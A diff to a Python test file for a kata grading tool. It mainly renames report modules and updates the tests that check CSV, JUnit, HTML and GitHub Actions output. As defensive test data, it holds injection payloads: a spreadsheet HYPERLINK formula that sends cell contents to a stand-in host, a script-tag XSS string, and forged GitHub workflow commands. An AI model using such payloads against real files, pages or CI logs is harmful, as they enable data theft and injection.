@@ -20,12 +20,12 @@ import pytest
 from markdown_it import MarkdownIt
 
 from grader import ROOT, __version__, cli
-from grader.ending import GraderError
-from grader.reports import actions, files
+from grader.reports import formats, github_actions
 from grader.reports.markdown import as_markdown
 from grader.reports.merge import merge
-from grader.reports.plain import plain
 from grader.reports.report import VERSION, KataReport, Report, TestReport, as_json
+from grader.reports.sanitize import sanitize
+from grader.sandbox.messages import GraderError
 
 RIGHT = "def double(value):\n    return value * 2\n"
 STUB = "def double(value):\n    raise NotImplementedError\n"
@@ -54,7 +54,7 @@ def double(value):
 """
 NEEDS_MORE = '''
 import pytest
-from grader.expect import equal
+from grader.testing import equal
 
 @pytest.mark.needs("nothing_of_that_name")
 def test_more(kata):
@@ -112,11 +112,11 @@ def graded(katas, tmp_path_factory):
 def written(katas, tmp_path_factory):
     """The katas' report in every format, by the name of the format."""
     folder = tmp_path_factory.mktemp("reports") / "made" / "on demand"
-    options = [f"--report={name}" for name in files.FORMATS]
+    options = [f"--report={name}" for name in formats.FORMATS]
     done = katas.run("grader", "test", "--seed=7", f"--into={folder}", *options)
     assert done.returncode == 1, done.stderr
     texts = {}
-    for name, (file_name, _) in files.FORMATS.items():
+    for name, (file_name, _) in formats.FORMATS.items():
         file = folder / file_name
         assert f"written: {file}\n" in done.stdout
         with file.open(encoding="utf-8", newline="") as stream:
@@ -192,7 +192,7 @@ def test_every_view_shows_the_failure_that_the_terminal_shows(graded, written):
 
 
 def test_the_command_knows_the_formats():
-    assert set(cli.REPORTS) == set(files.FORMATS)
+    assert set(cli.REPORTS) == set(formats.FORMATS)
 
 
 def test_a_folder_that_cannot_be_made_is_said(katas, tmp_path):
@@ -322,11 +322,11 @@ def test_a_report_that_cannot_be_made_is_an_error_too(monkeypatch, tmp_path):
 def test_the_result_fits_into_a_variable_of_the_environment():
     long = kata(failure(feedback='"\n\x00ü🧠' * 1000), PASSED, points=5)
     katas = [replace(long, name=f"{n:02}_long") for n in range(100)]
-    found = actions.result(report(*katas))
-    assert len("KATAS_RESULTS=" + actions.encoded(found)) < 2**17
+    found = github_actions.result(report(*katas))
+    assert len("KATAS_RESULTS=" + github_actions.encoded(found)) < 2**17
     assert sum(t["score"] for t in found["tests"]) == 500
     assert len(found["tests"]) == 100
-    assert len(actions.result(report(long))["tests"][0]["message"]) == 2000
+    assert len(github_actions.result(report(long))["tests"][0]["message"]) == 2000
 
 
 def test_outside_of_actions_nothing_is_handed_in(katas, tmp_path):
@@ -367,20 +367,20 @@ def test_no_text_is_a_command(command):
     ends = ("", "\n", "\r", "\r\n", "\n\r", "\v", "\f", "\x85", "\u2028")
     spaces = ("", "  ", "\t", "\xa0", "\u2003", "\u3000", "\ufeff", "\x1b[0m")
     for end, space in product(ends, spaces):
-        for shown in (plain(f"{space}{command}"), plain(f"said{end}{space}{command}")):
+        for shown in (sanitize(f"{space}{command}"), sanitize(f"said{end}{space}{command}")):
             assert commands(shown) == []
             assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown)
 
 
 def test_harmless_text_stays_as_it_is():
     text = "a: 1\n  b::c :: d\n\t# [x] ## y\nx[::2] µ → 🧠\n"
-    assert plain(text) == text
+    assert sanitize(text) == text
 
 
 def test_annotations_are_escaped_as_github_demands():
     name, said = "10_a,b:c%d", "100 %\r\n::error::x, y: z\n%0A"
     odd = kata(failure(feedback=said, line=7), name=name, file="a,b:c%d\n.py")
-    (line,) = actions.annotations(report(odd))
+    (line,) = github_actions.annotations(report(odd))
     head, data = line.removeprefix("::error ").split("::")[:1], line.split("::", 2)[2]
     assert "\n" not in line
     assert "\r" not in line
@@ -397,7 +397,7 @@ def test_annotations_are_escaped_as_github_demands():
 def test_github_shows_ten_annotations_of_a_kind():
     begun = [kata(failure(), name=f"{n}_double") for n in range(10, 25)]
     untouched = kata(failure(kind="not_written"), state="untouched", name="09_double")
-    lines = list(actions.annotations(report(untouched, *begun)))
+    lines = list(github_actions.annotations(report(untouched, *begun)))
     assert len(lines) == 10
     assert "katas/10_double/double.py" in lines[0]
 
@@ -487,13 +487,13 @@ def test_the_csv_has_a_row_per_kata(written):
 def test_a_spreadsheet_calculates_nothing(start):
     formula = f'{start}HYPERLINK("https://x.example/?"&A1,"ok")'
     odd = kata(PASSED, title=formula, file=formula)
-    _, row = csv.reader(io.StringIO(files.as_csv(report(odd)), newline=""))
+    _, row = csv.reader(io.StringIO(formats.as_csv(report(odd)), newline=""))
     assert (row[1], row[7]) == (f"'{formula}", f"'{formula}")
 
 
 def test_a_csv_keeps_commas_quotes_and_lines():
     odd = kata(PASSED, title='a, "b"; c\nd\r\ne', file='x,"y".py')
-    _, row = csv.reader(io.StringIO(files.as_csv(report(odd)), newline=""))
+    _, row = csv.reader(io.StringIO(formats.as_csv(report(odd)), newline=""))
     assert (row[1], row[7]) == ('a, "b"; c\nd\r\ne', 'x,"y".py')
 
 
@@ -522,7 +522,7 @@ def test_junit_is_well_formed_whatever_a_solution_says():
     odd = "a ]]> <b> & \"'\t" + "".join(map(chr, range(32))) + "\x7f\ud800\udfff\ufffe\uffff🧠"
     test = replace(failure(headline=odd, feedback=odd), output=odd)
     skipped = replace(PASSED, outcome="not_graded", reason=odd)
-    text = files.as_junit(report(kata(test, skipped, file=odd)))
+    text = formats.as_junit(report(kata(test, skipped, file=odd)))
     case, other = ElementTree.fromstring(text.encode()).iter("testcase")
     for said in (case.find("failure").text, case.find("system-out").text, case.get("file")):
         assert said.startswith("a ]]> <b> & \"'\t")
@@ -547,7 +547,7 @@ def test_gradescope_gets_a_score_per_kata(written):
 
 def test_every_file_takes_any_text(tmp_path):
     odd = kata(failure(feedback="\ud800", headline="\udfff"), title="\ud800", file="\udcff.py")
-    for file in files.write(report(odd), list(files.FORMATS), tmp_path):
+    for file in formats.write(report(odd), list(formats.FORMATS), tmp_path):
         assert file.read_text(encoding="utf-8")
     assert json.loads((tmp_path / "report.json").read_text())["katas"][0]["file"] == "\udcff.py"
     assert json.loads(as_json(report(odd)))["katas"][0]["title"] == "\ud800"
@@ -570,7 +570,7 @@ def test_the_page_shows_each_failure_of_what_was_begun(written):
 def test_nothing_in_a_solution_gets_into_the_page():
     odd = "</pre><script>alert(1)</script>"
     bad = replace(failure(headline=odd, feedback=odd), output=odd)
-    page = files.as_html(report(kata(bad, title=odd, file=odd)))
+    page = formats.as_html(report(kata(bad, title=odd, file=odd)))
     assert "<script" not in page
     assert page.count("&lt;script&gt;") == 4
 
@@ -713,5 +713,5 @@ def test_the_page_names_every_field_and_column(written):
     header = next(csv.reader(io.StringIO(written["csv"], newline="")))
     csv_part = page.split("## CSV")[1].split("## ")[0]
     assert re.findall(r"`(\w+)`", csv_part)[: len(header)] == header
-    for name, (file_name, _) in files.FORMATS.items():
+    for name, (file_name, _) in formats.FORMATS.items():
         assert f"| `{name}` | `{file_name}` |\n" in page
